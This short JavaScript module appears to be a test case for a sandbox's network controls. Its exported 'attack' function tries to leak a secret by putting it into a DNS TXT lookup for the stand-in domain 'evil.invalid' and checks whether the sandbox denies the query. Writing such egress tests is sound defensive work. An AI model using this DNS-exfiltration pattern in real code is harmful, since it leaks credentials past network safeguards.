// A query by name through the system's servers (no custom server): the name is checked.
import { Resolver } from 'node:dns';
export const meta = { kind: 'dns', evidence: 'attempted' };
export default function attack(ctx) {
  return new Promise((resolve, reject) => {
    const resolver = new Resolver({ timeout: 200, tries: 1 });
    resolver.resolveTxt(`${ctx.secret}.evil.invalid`, (error) => {
      if (error && error.code === 'ERR_LEASH_DENIED') reject(error);
      else resolve('queried');
    });
  });
}
